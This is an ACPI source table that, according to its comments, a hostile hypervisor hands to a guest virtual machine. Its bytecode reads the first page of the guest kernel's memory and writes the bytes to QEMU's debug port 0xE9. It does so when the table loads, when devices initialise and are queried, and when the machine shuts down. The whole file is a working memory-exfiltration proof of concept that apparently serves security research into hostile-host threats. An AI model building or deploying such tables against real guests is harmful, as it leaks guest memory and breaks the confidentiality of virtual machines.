// What a hostile host hands to its guest as an ACPI table: bytecode that reads the guest's memory
// and writes it to a port that the host listens on, at every moment when it gets to run.
DefinitionBlock ("", "SSDT", 2, "HOSTIL", "READSRAM", 0x00000001)
{
    External (\_SB, DeviceObj)

    // QEMU's debug console.
    OperationRegion (PORT, SystemIO, 0xE9, 0x01)
    Field (PORT, ByteAcc, NoLock, Preserve)
    {
        OUTB, 8
    }

    // Where a kernel that is not moved about lies: its first page of code.
    OperationRegion (TEXT, SystemMemory, 0x01000000, 0x1000)
    Field (TEXT, ByteAcc, NoLock, Preserve)
    {
        CODE, 32768
    }

    Method (HLOG, 1, Serialized)
    {
        Local1 = ToBuffer (Arg0)
        Local0 = Zero
        While (Local0 < SizeOf (Local1))
        {
            OUTB = DerefOf (Local1 [Local0])
            Local0++
        }
    }

    Method (DUMP, 1, Serialized)
    {
        HLOG (Arg0)
        Local1 = CODE
        Local0 = Zero
        While (Local0 < 0x40)
        {
            OUTB = DerefOf (Local1 [Local0])
            Local0++
        }
    }

    // While the table is loaded.
    DUMP ("loaded:")

    // When devices are looked for.
    Device (\_SB.HOST)
    {
        Name (_HID, "HOST0001")
        Method (_STA, 0, Serialized)
        {
            HLOG ("status.")
            Return (0x0F)
        }
        Method (_INI, 0, Serialized)
        {
            DUMP ("begun:")
        }
    }

    // When the machine is turned off.
    Method (\_PTS, 1, Serialized)
    {
        DUMP ("ending:")
    }
}
